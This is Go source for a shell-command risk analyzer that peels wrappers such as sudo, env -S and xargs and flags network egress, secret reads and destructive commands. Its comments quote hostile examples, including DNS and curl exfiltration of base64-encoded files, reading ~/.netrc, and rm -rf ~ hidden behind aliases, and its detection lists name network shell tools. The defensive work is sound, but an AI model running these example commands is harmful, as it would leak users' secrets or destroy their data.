package shell

import (
	"strings"

	"github.com/airlockhq/airlock/app/internal/risk/effect"

	"github.com/airlockhq/airlock/app/internal/level"
	"github.com/airlockhq/airlock/app/internal/risk/rate"
)

// A shell command as the analyzer sees it once wrappers are peeled off.
type call struct {
	a    *shellAn
	name string // lower-case base name: "rm"
	args []word // the words after the name
	ops  []word // the operands among args, once worked out
	span Span
	pc   pipeCtx
	use  string // what an interpreter's options put before its program: perl -MFile::Path is "use File::Path;"
	argv []word // the arguments an interpreter's inline program is given: python -c CODE a b gives a, b
}

// operands returns the operands among c.args, working them out once.
func (c *call) operands() []word {
	if c.ops == nil {
		c.ops = operands(c.args)
	}
	return c.ops
}

// add adds a reason: c does e, found by rule ("shell." is put before it).
func (c *call) add(e effect.Effect, rule, format string, args ...any) {
	c.a.add(e, "shell."+rule, c.span, format, args...)
}

// wrappers run the rest of their arguments as a command. The value is the
// set of short options that take a value, so `sudo -u bob rm` finds rm.
var wrappers = map[string]string{
	"sudo": "ugCDhpRrtTU", "doas": "uC", "env": "uCSPLUa", "nohup": "", "time": "", "nice": "n",
	"ionice": "cnp", "timeout": "sk", "gtimeout": "sk", "command": "", "exec": "a", "builtin": "",
	"caffeinate": "tw", "stdbuf": "ioe", "chroot": "", "arch": "e", "setsid": "", "unbuffer": "",
	"noglob": "", "nocorrect": "", "watch": "nd", "xargs": "", "flock": "wE", "taskset": "",
	"chrt": "", "script": "Ft", "then": "", "do": "", "sh-wrapper": "", "sandbox-exec": "fpnD", "busybox": "", "toybox": "",
}

// peel strips wrappers (sudo, env, nohup, xargs, timeout …) and returns the
// command they run, and the word that named it. With report set it rates
// the wrappers on the way.
func (a *shellAn) peel(words []word, sp Span, report bool) (name string, args []word, bulk bool, head word) {
	for len(words) > 0 {
		w := words[0]
		if w.hole || w.glob {
			return "", words, bulk, w
		}
		name = commandName(w.s)
		if a.writableProgram(w) {
			// Judged as what it is, an unknown file, not by its name.
			return w.s, words[1:], bulk, w
		}
		if t, ok := a.rebind[name]; ok {
			if report {
				a.add(effect.Of(effect.LoadCode).On(name), "shell.rebind", sp, "hash makes %s run another command", rate.Display(name))
			}
			if t == "" {
				return "", append([]word{{s: rate.HoleMark, hole: true, span: w.span}}, words[1:]...), bulk, w
			}
			name = t
		}
		opts, ok := wrappers[name]
		if !ok {
			return name, words[1:], bulk, w
		}
		rest := words[1:]
		switch name {
		case "sudo", "doas":
			if report {
				a.add(effect.Of(effect.Admin), "shell.sudo", sp, "%s: runs as root", name)
			}
		case "command":
			if hasShort(rest, 'v') || hasShort(rest, 'V') {
				return "command", rest, bulk, w // a lookup, not a run
			}
		case "xargs":
			var repl string
			rest, repl = xargsOptions(rest)
			if repl != "" {
				// -I {} puts each input line where {} is: those words are
				// computed at run time.
				rest = replaceHoles(rest, repl)
			} else {
				bulk = true
			}
		case "env":
			rest = a.envArgs(rest, opts, sp, report)
		case "sandbox-exec":
			if report {
				a.add(effect.Of(effect.Run), "shell.sandbox-exec", sp, "sandbox-exec: runs a command under a sandbox profile")
			}
		}
		if name == "arch" {
			rest = a.archArgs(rest, sp, report)
		}
		rest = skipOptions(rest, opts)
		switch name {
		case "timeout", "gtimeout", "chroot", "flock", "taskset", "chrt":
			if len(rest) > 0 {
				rest = rest[1:] // the duration, directory, lock file, mask or priority
			}
		case "arch":
			for len(rest) > 0 && strings.HasPrefix(rest[0].s, "-") {
				rest = rest[1:]
			}
		case "script":
			if len(rest) > 0 {
				rest = rest[1:] // the typescript file
			}
		case "watch":
			rest = watchWords(rest)
		}
		if len(rest) == 0 {
			if name == "env" {
				return "env", nil, bulk, w // prints the environment
			}
			return "wrapper-alone", nil, bulk, w
		}
		words = rest
	}
	return "", nil, bulk, word{}
}

// envArgs skips env's options and NAME=value pairs (rating each
// variable when report is set) and returns the command it runs. It reads
// the options as env does, in order and only before the command: -S (or
// --split-string) splits its string into words, which env then reads as
// if they stood in its place, options and variables included, in every
// spelling: env -S 'rm -rf ~', env -S"sh -c 'x'", env -iS'x',
// env --split-string=x.
func (a *shellAn) envArgs(rest []word, opts string, sp Span, report bool) []word {
	splits := 0
	for len(rest) > 0 {
		w := rest[0]
		s := w.s
		switch {
		case w.hole && strings.HasPrefix(s, "-"):
			// An option computed at run time may be -S with any string.
			return append([]word{{s: rate.HoleMark, hole: true, span: w.span}}, rest[1:]...)
		case envAssign(s):
			if report {
				n, v, _ := strings.Cut(s, "=")
				a.envVar(n, word{s: v, hole: w.hole}, sp)
			}
			rest = rest[1:]
			continue
		case w.hole || !strings.HasPrefix(s, "-") || s == "-":
			return rest // the command (env - is -i)
		case s == "--":
			return rest[1:]
		}
		rest = rest[1:]
		var split *word
		if strings.HasPrefix(s, "--") {
			name, val, hasVal := strings.Cut(s, "=")
			switch {
			case name == "--split-string" && hasVal:
				split = &word{s: val, span: w.span}
			case name == "--split-string" && len(rest) > 0:
				split, rest = &rest[0], rest[1:]
			case !hasVal && len(rest) > 0 && longTakesValue(name):
				rest = rest[1:]
			}
		} else {
			letters := s[1:]
			for i := 0; i < len(letters); i++ {
				if strings.IndexByte(opts, letters[i]) < 0 {
					continue
				}
				// A valued option: its value is the rest of the word, or
				// the next word.
				var v *word
				if i+1 < len(letters) {
					v = &word{s: letters[i+1:], span: w.span}
				} else if len(rest) > 0 {
					v, rest = &rest[0], rest[1:]
				}
				if letters[i] == 'S' {
					split = v
				}
				break
			}
		}
		if split == nil {
			continue
		}
		splits++
		if splits > 8 {
			return append([]word{{s: rate.HoleMark, hole: true, span: w.span}}, rest...)
		}
		rest = append(envSplit(*split), rest...)
	}
	return rest
}

// envAssign reports a NAME=value word: a literal name, then the value.
func envAssign(s string) bool {
	n, _, ok := strings.Cut(s, "=")
	return ok && n != "" && !strings.HasPrefix(s, "-") && !strings.ContainsAny(n, rate.HoleMark+" /")
}

// envSplit splits env -S's string as env does: blanks (and \_ outside
// double quotes) separate words; single quotes keep text as it is; double
// quotes and backslashes escape; ${NAME} is a variable's value, computed at
// run time; # starts a comment. The words are holes where the string was
// computed or where env would substitute.
func envSplit(w word) []word {
	var out []word
	var cur strings.Builder
	in, hole := false, w.hole
	flush := func() {
		if in {
			out = append(out, word{s: cur.String(), hole: hole, span: w.span})
		}
		cur.Reset()
		in, hole = false, w.hole
	}
	s := w.s
	for i := 0; i < len(s); i++ {
		ch := s[i]
		switch {
		case ch == ' ' || ch == '\t' || ch == '\n':
			flush()
		case ch == '#' && !in:
			i = len(s)
		case ch == '\'':
			in = true
			j := strings.IndexByte(s[i+1:], '\'')
			if j < 0 {
				cur.WriteString(s[i+1:])
				hole = true // unterminated: env refuses it; fail closed
				i = len(s)
				break
			}
			cur.WriteString(s[i+1 : i+1+j])
			i += j + 1
		case ch == '"':
			in = true
			for i++; i < len(s) && s[i] != '"'; i++ {
				if s[i] == '\\' && i+1 < len(s) {
					i++
					if s[i] == '_' {
						cur.WriteByte(' ') // \_ is a blank inside double quotes
						continue
					}
				} else if s[i] == '$' {
					hole = true
				}
				cur.WriteByte(s[i])
			}
			if i >= len(s) {
				hole = true
			}
		case ch == '\\' && i+1 < len(s) && s[i+1] == '_':
			i++
			flush() // outside quotes \_ separates words, as a blank
		case ch == '\\' && i+1 < len(s):
			in = true
			i++
			switch s[i] {
			case 'c':
				i = len(s) // ends the string
			default:
				cur.WriteByte(s[i])
			}
		case ch == '$':
			in, hole = true, true
			cur.WriteByte(ch)
		default:
			in = true
			cur.WriteByte(ch)
		}
	}
	flush()
	return out
}

// watchWords is the command watch runs: its arguments, joined, with sh -c.
func watchWords(rest []word) []word {
	if len(rest) > 0 {
		joined := word{span: rest[0].span}
		for i, r := range rest {
			if i > 0 {
				joined.s += " "
			}
			joined.s += r.s
			joined.hole = joined.hole || r.hole
		}
		rest = []word{{s: "sh", span: rest[0].span}, {s: "-c", span: rest[0].span}, joined}
	}
	return rest
}

// xargsOptions skips xargs's options (BSD and GNU) and returns the
// replacement string of -I, -J, -i or --replace, if any.
func xargsOptions(ws []word) ([]word, string) {
	repl := ""
	for len(ws) > 0 {
		s := ws[0].s
		if ws[0].hole || !strings.HasPrefix(s, "-") || s == "-" {
			break
		}
		ws = ws[1:]
		if s == "--" {
			break
		}
		if strings.HasPrefix(s, "--") {
			name, val, hasVal := strings.Cut(s, "=")
			switch name {
			case "--replace":
				repl = "{}"
				if hasVal {
					repl = val
				}
			case "--max-args", "--max-procs", "--delimiter", "--arg-file", "--eof", "--max-chars", "--max-lines", "--process-slot-var":
				if !hasVal && len(ws) > 0 {
					ws = ws[1:]
				}
			}
			continue
		}
		letters := s[1:]
		for i := 0; i < len(letters); i++ {
			c := letters[i]
			switch {
			case strings.IndexByte("IJEnLPsSRad", c) >= 0:
				val := letters[i+1:]
				if val == "" && len(ws) > 0 {
					val = ws[0].s
					ws = ws[1:]
				}
				if c == 'I' || c == 'J' {
					repl = val
				}
				i = len(letters)
			case c == 'i': // GNU -i[R]
				repl = letters[i+1:]
				if repl == "" {
					repl = "{}"
				}
				i = len(letters)
			case c == 'e' || c == 'l': // GNU -e[EOF], -l[N]
				i = len(letters)
			}
		}
	}
	return ws, repl
}

// replaceHoles turns every word holding repl into a computed word.
func replaceHoles(ws []word, repl string) []word {
	out := make([]word, len(ws))
	for i, w := range ws {
		if strings.Contains(w.s, repl) {
			w = word{s: strings.ReplaceAll(w.s, repl, rate.HoleMark), hole: true, glob: true, span: w.span}
		}
		out[i] = w
	}
	return out
}

// skipOptions drops leading options; letters in valued take an argument.
func skipOptions(ws []word, valued string) []word {
	for len(ws) > 0 {
		s := ws[0].s
		if ws[0].hole || !strings.HasPrefix(s, "-") || s == "-" {
			return ws
		}
		ws = ws[1:]
		if s == "--" {
			return ws
		}
		if strings.HasPrefix(s, "--") {
			if !strings.Contains(s, "=") && len(ws) > 0 && longTakesValue(s) {
				ws = ws[1:]
			}
			continue
		}
		letters := s[1:]
		for i := 0; i < len(letters); i++ {
			if strings.IndexByte(valued, letters[i]) >= 0 {
				if i == len(letters)-1 && len(ws) > 0 {
					ws = ws[1:]
				}
				break
			}
		}
	}
	return ws
}

func longTakesValue(s string) bool {
	switch s {
	case "--user", "--group", "--signal", "--kill-after", "--max-args", "--max-procs", "--replace", "--delimiter", "--arg-file", "--unset", "--chdir", "--interval":
		return true
	}
	return false
}

// call rates one simple command.
func (a *shellAn) call(words []word, sp Span, pc pipeCtx) {
	a.callOps(words, sp, pc, "", nil, nil)
}

// callOps is call with the command's name, arguments and operands when the
// caller has them already (ops nil: work them out).
func (a *shellAn) callOps(words []word, sp Span, pc pipeCtx, _ string, knownArgs []word, knownOps []word) {
	for _, w := range words {
		if w.splice {
			a.add(effect.Of(effect.Unknown), "shell.splice", sp, "text computed at run time is spliced into the command unquoted: it can change the command")
			break
		}
	}
	name, args, bulk, head := a.peel(words, sp, true)
	if name == "" {
		if len(args) == 0 {
			return
		}
		head := args[0]
		// A computed command name ("$@", "${cmd[@]}", $(…)) can be
		// anything at all; a glob (/bin/r?) is one of the files it matches.
		e := effect.Of(effect.Unknown, effect.Computed)
		what := "computed at run time"
		if head.glob && !head.hole {
			what = "a glob"
			if !looksDestructive(args[1:]) {
				e = effect.Of(effect.Unknown)
			}
		}
		a.add(e, "shell.dynamic-command", sp, "command name is %s (%s): cannot tell what runs", what, rate.Display(head.s))
		for _, w := range args[1:] {
			a.read(w, sp)
		}
		return
	}
	if bulk {
		// xargs appends many words read from stdin: the words of literal
		// text (printf '%s\n' ~/.netrc | xargs cat), or paths under the
		// folders the stage before lists, or any at all.
		switch {
		case pc.stdin == "text" && strings.TrimSpace(pc.text) != "":
			for _, f := range strings.FieldsFunc(pc.text, func(r rune) bool { return r == ' ' || r == '\n' || r == '\t' || r == 0 }) {
				args = append(args, word{s: f, span: sp})
			}
		default:
			if dataReaders[name] {
				a.listedSecrets(pc.roots, sp, name)
			}
			args = append(args, word{s: rate.HoleMark, hole: true, glob: true})
		}
	}
	scr := a.sh.scratch()
	c := scr.takeCall(call{a: a, name: name, args: args, span: sp, pc: pc})
	defer scr.giveCall(c)
	if knownOps != nil && !bulk {
		c.ops = knownOps
	}
	// ./i.sh, /tmp/x: running a file this same input wrote or downloaded;
	// ls, after writing ~/.local/bin/ls: the same.
	if strings.Contains(head.s, "/") {
		if content, ok := a.fileContent(head.s); ok {
			if !a.runShebang(c, head.s, content, args) {
				a.runFile(c, head.s)
			}
			return
		}
	} else if k, ok := a.bins[name]; ok && !a.funcs[name] {
		if content, _ := a.fileContent(k); !a.runShebang(c, k, content, args) {
			a.runFile(c, k)
		}
		return
	}
	if v, ok := a.alias[name]; ok && a.inAlias < 8 && !strings.ContainsAny(v, ";&|<>()`$\"'\\\n") {
		// An alias with a plain value: ll='rm -rf'; ll ~ runs rm -rf ~.
		var expanded []word
		for _, f := range strings.Fields(v) {
			expanded = append(expanded, word{s: f, span: sp})
		}
		if len(expanded) > 0 && commandName(expanded[0].s) != name {
			a.inAlias++
			a.callOps(append(expanded, args...), sp, pc, "", nil, nil)
			a.inAlias--
			return
		}
	}
	if a.funcs[name] {
		// The script's own function or alias: its body is analysed where it
		// is defined, and again with its input when it has one:
		// f() { bash; }; curl … | f
		// A forwarder's body is analysed at each call, with its words:
		// run() { "$@"; }; run rm -rf ~ runs rm.
		body := a.bodies[name]
		saved := a.fwdAt
		switch {
		case body != nil && a.fwd[name] && a.inFunc < maxForward:
			a.fwdAt = &forwarding{args: append([]word(nil), args...)}
		case a.fwd[name]:
			a.add(effect.Of(effect.Unknown, effect.Computed), "shell.dynamic-command", sp, "function %s runs its arguments through more than %d functions: cannot tell what runs", rate.Display(name), maxForward)
			return
		case body != nil && pc.stdin != "" && pc.stdin != "devnull" && a.inFunc < 4:
			a.fwdAt = nil
		default:
			return
		}
		a.inFunc++
		pc.inPipe = false
		a.stmt(body, pc)
		a.inFunc--
		a.fwdAt = saved
		return
	}
	if r, ok := rows.row(name); ok {
		r.rate(c)
	} else if h := prefixCommand(name); h != nil {
		h(c)
	} else {
		c.add(effect.Of(effect.Unknown).On(name), "unknown-command", "unknown command %q: cannot tell what it does", rate.Display(name))
		c.embedded()
		c.unknownPlants()
		c.unknownInline()
	}
	c.mintsSecret() // programs whose output is a secret (rows_secrets.go)
	c.guardCall()
	c.noteSelfLookup()
	if netTools[name] && versionOnly(c.args) {
		// ssh -V, curl --version: prints its version; nothing is sent.
	} else if netTools[name] || lookupTools[name] && !allKnown(c.args) {
		// Whatever it sends can carry what the script read.
		if netTools[name] {
			a.egress("network", sp, "%s: sends data over the network", name)
			if a.readInto(c.args) {
				c.add(effect.Of(effect.Upload), "request-exfil", "%s: what a command read (a file, a listing, the clipboard, the environment) goes into the address or headers it sends", name)
			}
		} else {
			a.egress("dns", sp, "%s: looks up a computed name, which carries data out in the query", name)
			if a.printedInto(c.args) || a.readInto(c.args) {
				c.add(effect.Of(effect.Upload), "dns-exfil", "%s: what a command printed goes into the name or packet it sends, so it leaves where no one sees it", name)
			}
		}
	} else if lookupTools[name] {
		// Nothing read goes out, but it needs the network to work: the
		// sandbox gives the network only to what says so (risk.UsesNetwork).
		c.add(effect.Of(effect.Lookup), "net-lookup", "%s: queries the network", name)
	}
	// Reading from credential stores, whatever the command.
	if !noPathRead[name] {
		ops := knownOps
		if ops == nil || bulk || !sameWords(args, knownArgs) {
			ops = operands(args)
		}
		for i, w := range ops {
			if i > 0 && i == len(ops)-1 && writesLast(name, w, a) {
				continue // its destination (rows_secrets.go)
			}
			a.read(w, sp)
		}
	}
}

// maxEmbedded bounds the command lines looked for in one command's
// arguments.
const maxEmbedded = 8

// embedded rates the command lines found in the arguments of a command
// whose behaviour is not known (lockf, entr, parallel, hyperfine, uv run,
// a look-alike of sudo …) or that runs what it is given (npx -c): many
// such tools run their arguments. An argument naming a known command
// starts a command line (lockf /tmp/l rm -rf ~); an argument with blanks
// or shell operators whose first word is a known command is a script
// (hyperfine 'rm -rf ~'). Only what would be worse than Dangerous counts:
// the command itself is Dangerous already.
func (c *call) embedded() {
	probes := 0
	for i, w := range c.args {
		if w.hole || w.s == "" || strings.HasPrefix(w.s, "-") || probes >= maxEmbedded {
			continue
		}
		first, _, spaced := strings.Cut(strings.TrimSpace(w.s), " ")
		if !spaced {
			first, _, spaced = strings.Cut(first, "\t")
		}
		if !knownCommand(commandName(first)) {
			continue
		}
		probes++
		var sub Verdict
		sp := c.span
		inner := newShellAn(&sub, c.a.env, anchorOr(c.a.anchor, &sp), c.a.depth+1, "", c.a.sh)
		if spaced || strings.ContainsAny(w.s, ";|&\n") {
			inner = shellRun(&sub, w.s, c.a.env, anchorOr(c.a.anchor, &sp), c.a.depth+1, c.a.sh)
		} else {
			inner.call(c.args[i:], c.span, pipeCtx{})
			inner.finish()
		}
		if sub.Level <= level.Dangerous {
			continue
		}
		unsure := false
		for _, r := range sub.Reasons {
			unsure = unsure || r.Rule == "shell.unparseable" || r.Rule == "shell.too-complex" || r.Rule == "shell.too-deep"
		}
		if unsure {
			continue
		}
		c.add(heaviest(sub, level.Destructive), "runs-arguments", "%s may run its arguments as a command: %s", c.name, rate.Display(w.s))
		c.a.v.Merge(Verdict{Reasons: sub.Reasons}, nil) // each with its effect
		c.adopt(inner)
		return
	}
}

// heaviest is the effect of the heaviest reason of v that weighs at most
// top: what a command that runs v's script does, at most top (a refusal
// inside is the nested reason's own). Without one it is Unknown+Computed:
// what runs cannot be told.
func heaviest(v Verdict, top level.Level) effect.Effect {
	best := effect.Of(effect.Unknown, effect.Computed)
	found := false
	for _, r := range v.Reasons {
		if r.Effect.Kind == 0 || r.Level > top {
			continue
		}
		if !found || r.Level > best.Level() {
			best, found = r.Effect, true
		}
	}
	if !found || best.Level() < top {
		return effect.Of(effect.Unknown, effect.Computed)
	}
	return best
}

// knownCommand reports a command name the shell analyzer has rules for.
func knownCommand(name string) bool {
	if _, ok := rows.row(name); ok {
		return true
	}
	_, ok := wrappers[name]
	return ok || prefixCommand(name) != nil || shells[name]
}

// netTools send data over the network; lookupTools do when a name they
// look up is computed (DNS exfiltration: dig "$(base64 < key).evil").
var netTools = map[string]bool{
	"curl": true, "wget": true, "nc": true, "ncat": true, "netcat": true, "socat": true, "telnet": true, "ssh": true,
	"scp": true, "sftp": true, "ftp": true, "http": true, "https": true, "aria2c": true, "mail": true, "mailx": true,
	"sendmail": true, "smbclient": true, "rclone": true, "lwp-request": true, "fetch": true,
}

var lookupTools = map[string]bool{
	"dig": true, "nslookup": true, "host": true, "ping": true, "ping6": true, "traceroute": true, "whois": true,
	"dscacheutil": true, "drill": true,
}

// unknownPlants rates an unknown program's operands that name a place
// whose contents run later (patch ~/.zshrc, ed ~/.zshrc, csplit -f
// ~/Library/LaunchAgents/x): it may well write there, and a plant is
// worse than not knowing what it does.
func (c *call) unknownPlants() {
	for _, w := range c.args {
		if w.hole || !strings.ContainsAny(w.s, "/~") {
			continue
		}
		if z := c.a.zoneOf(w); z.Kind == rate.ZonePersistence || z.Persist != "" {
			c.a.write(w, c.span, c.name+" may write")
		}
	}
}

// versionOnly reports arguments that only ask a program for its version.
func versionOnly(ws []word) bool {
	return len(ws) == 1 && !ws[0].hole && (ws[0].s == "-V" || ws[0].s == "--version")
}

// printedInto reports a word that holds a command's output, $(…) or `…`:
// a name looked up that way carries whatever the command printed (a file,
// a key), where a name from a variable is usually the one the script was given.
func (a *shellAn) printedInto(ws []word) bool {
	for _, w := range ws {
		if t := a.srcText(w.span); w.hole && (strings.Contains(t, "$(") || strings.Contains(t, "`")) {
			return true
		}
	}
	return false
}

// readInto reports a word that holds the output of a command that prints
// data it read (dataReaders): curl "https://x/?d=$(base64 < notes.txt)"
// sends the file, where "$(uname -m)" or "$(date +%F)" in a download's
// address sends nothing of the person's.
func (a *shellAn) readInto(ws []word) bool {
	for _, w := range ws {
		if !w.hole {
			continue
		}
		t := a.srcText(w.span)
		if readsData(t) || a.assignedRead(t) {
			return true
		}
	}
	return false
}

// assignedRead reports a word that names a variable this input assigns a
// data reader's output to: d=$(cat notes.txt); curl "https://x/?d=$d".
func (a *shellAn) assignedRead(t string) bool {
	if len(a.readVars) == 0 {
		return false
	}
	for {
		i := strings.IndexByte(t, '$')
		if i < 0 {
			return false
		}
		t = strings.TrimPrefix(t[i+1:], "{")
		end := 0
		for end < len(t) && (t[end] == '_' || t[end] >= 'a' && t[end] <= 'z' || t[end] >= 'A' && t[end] <= 'Z' || end > 0 && t[end] >= '0' && t[end] <= '9') {
			end++
		}
		if a.readVars[t[:end]] {
			return true
		}
	}
}

// readsData reports source text with a command substitution whose
// pipeline starts with a data reader, or reads a file with $(< file).
func readsData(t string) bool {
	if !strings.Contains(t, "$(") && !strings.Contains(t, "`") {
		return false
	}
	// The first command of each pipeline is where the data comes from:
	// $(git remote get-url origin | cut -d/ -f4) reads nothing of the
	// person's, $(cat notes.txt | base64) does.
	for _, seg := range strings.FieldsFunc(t, func(r rune) bool { return strings.ContainsRune("$(`;&\n", r) }) {
		seg, _, _ = strings.Cut(seg, "|")
		if f := strings.Fields(seg); len(f) > 0 && (dataReaders[commandName(strings.Trim(f[0], `"'{}`))] || strings.HasPrefix(f[0], "<")) {
			return true
		}
	}
	return false
}

// dataReaders print what they read: files, folders' listings, the
// clipboard, the environment, the history, settings.
var dataReaders = map[string]bool{
	"cat": true, "head": true, "tail": true, "base64": true, "xxd": true, "od": true, "hexdump": true, "strings": true,
	"ls": true, "find": true, "tar": true, "zip": true, "gzip": true, "pbpaste": true, "env": true, "printenv": true,
	"history": true, "sed": true, "awk": true, "grep": true, "cut": true, "sort": true, "tr": true, "jq": true,
	"plutil": true, "defaults": true, "sqlite3": true, "mdfind": true, "tac": true, "nl": true, "column": true,
	"openssl": true, "gpg": true, "security": true, "textutil": true, "uuencode": true, "bzip2": true, "xz": true,
}

// noPathRead lists commands whose operands are not file contents they read.
var noPathRead = map[string]bool{
	"ls": true, "stat": true, "test": true, "[": true, "[[": true, "file": true, "du": true, "echo": true,
	"printf": true, "rm": true, "mkdir": true, "touch": true, "cd": true, "dirname": true, "basename": true,
	"realpath": true, "readlink": true, "chmod": true, "chown": true, "chgrp": true, "mdls": true, "open": true,
	"say": true, "ssh-keygen": true, "ssh-add": true, "find": true, "rmdir": true,
}

// looksDestructive guesses from arguments alone: rm-style force/recursive
// flags or a target at the root of the disk or home.
func looksDestructive(args []word) bool {
	for _, w := range args {
		s := w.s
		if strings.HasPrefix(s, "-") && !strings.HasPrefix(s, "--") && (strings.ContainsAny(s[1:], "rRf")) {
			return true
		}
		switch s {
		case "--recursive", "--force", "/", "~", "~/", "/*", "~/*":
			return true
		}
	}
	return false
}

// hasShort reports a short flag, alone or combined (-rf has r and f).
func hasShort(args []word, f byte) bool {
	for _, w := range args {
		s := w.s
		if s == "--" {
			return false
		}
		if len(s) > 1 && s[0] == '-' && s[1] != '-' && !w.hole && strings.IndexByte(s[1:], f) >= 0 {
			return true
		}
	}
	return false
}

// hasLong reports a long option, with or without =value.
func hasLong(args []word, names ...string) bool {
	for _, w := range args {
		if w.s == "--" {
			return false
		}
		for _, n := range names {
			if w.s == n || strings.HasPrefix(w.s, n+"=") {
				return true
			}
		}
	}
	return false
}

func hasArg(args []word, vals ...string) bool {
	for _, w := range args {
		for _, v := range vals {
			if strings.EqualFold(w.s, v) {
				return true
			}
		}
	}
	return false
}

// sameWords reports x and y are the same words of the same list: the
// operands worked out for one are the other's.
func sameWords(x, y []word) bool {
	return len(x) == len(y) && (len(x) == 0 || &x[0] == &y[0])
}

// operands are the words that are not options.
func operands(args []word) []word { return appendOperands(nil, args) }

// appendOperands is operands written after dst (a buffer of the caller's),
// when some words are options; args itself when none is.
func appendOperands(dst, args []word) []word {
	options := false
	for _, w := range args {
		if strings.HasPrefix(w.s, "-") {
			options = true
			break
		}
	}
	if !options {
		return args
	}
	out := dst
	end := false
	for _, w := range args {
		if !end && w.s == "--" {
			end = true
			continue
		}
		if !end && strings.HasPrefix(w.s, "-") && len(w.s) > 1 && !w.hole {
			continue
		}
		out = append(out, w)
	}
	return out
}

// sub returns the first operand, lower-cased: the subcommand of git, brew …
func sub(args []word) string {
	ops := operands(args)
	if len(ops) == 0 {
		return ""
	}
	return strings.ToLower(ops[0].s)
}

func prefixCommand(name string) func(*call) {
	switch {
	case strings.HasPrefix(name, "mkfs") || strings.HasPrefix(name, "newfs"):
		return func(c *call) { c.add(effect.Of(effect.Disk), "mkfs", "%s: formats a disk", c.name) }
	case strings.HasPrefix(name, "python") || strings.HasPrefix(name, "pypy"):
		return interpreter(pythonSpec)
	case strings.HasPrefix(name, "perl"):
		return interpreter(perlSpec)
	case strings.HasPrefix(name, "ruby"):
		return interpreter(rubySpec)
	}
	return nil
}

var downloaders = map[string]bool{"curl": true, "wget": true, "fetch": true, "aria2c": true, "http": true, "https": true, "lwp-download": true, "ftp": true}

var shells = map[string]bool{"sh": true, "bash": true, "zsh": true, "dash": true, "ksh": true, "mksh": true, "fish": true, "tcsh": true, "csh": true}

// archArgs skips arch(1)'s options: an architecture is a whole word
// (-x86_64, -arm64e, -i386), not a cluster of letters, and -e VAR=value
// and -d VAR take the next word. Read as getopt letters, -arm64e's e would
// take the command's name as its value. Each -e variable is rated as env's
// (when report is set).
func (a *shellAn) archArgs(rest []word, sp Span, report bool) []word {
	for len(rest) > 0 && strings.HasPrefix(rest[0].s, "-") && !rest[0].hole {
		if (rest[0].s == "-e" || rest[0].s == "-d") && len(rest) > 1 {
			if n, v, ok := strings.Cut(rest[1].s, "="); ok && report && rest[0].s == "-e" {
				a.envVar(n, word{s: v, hole: rest[1].hole}, sp)
			}
			rest = rest[2:]
			continue
		}
		if rest[0].s == "--" {
			return rest[1:]
		}
		rest = rest[1:]
	}
	return rest
}

// listedSecrets rates xargs handing a reader the paths a listing printed:
// a listed folder that holds secrets (~/.ssh, ~/.config, a hidden folder
// of the home) is read, whatever names the listing picks.
func (a *shellAn) listedSecrets(roots []word, sp Span, name string) {
	for _, r := range roots {
		if r.hole {
			continue
		}
		if what, ok := a.zone(r).SecretRead(); ok {
			a.add(effect.Of(effect.ReadSecret, effect.Computed).On(r.s), "secret.file-maybe", sp, "xargs %s reads the files listed under %s, inside %s", name, rate.Display(r.s), what)
			a.secretAt(sp)
			return
		}
	}
}

// inlineFlags are the options by which interpreters and debuggers take
// code or commands on the command line: julia -e, guile -c, racket -e,
// sbcl --eval, gdb -ex, lldb -o.
var inlineFlags = map[string]bool{"-e": true, "-c": true, "--eval": true, "-eval": true, "--execute": true, "-ex": true,
	"--command": true, "-E": true, "-o": true, "--one-line": true, "-x": true}

// unknownInline looks through the code a program the table does not know
// is given inline, or as literal text on its input, for the obvious (rm
// -rf, system(…)): the program is Dangerous already; code that plainly
// deletes is Destructive.
func (c *call) unknownInline() {
	for i := 1; i < len(c.args); i++ {
		if w := c.args[i]; !w.hole && inlineFlags[c.args[i-1].s] && strings.ContainsAny(w.s, " (`") {
			scanKeywords(c, w.s)
		}
	}
	if c.pc.stdin == "text" {
		scanKeywords(c, c.pc.text)
	}
}
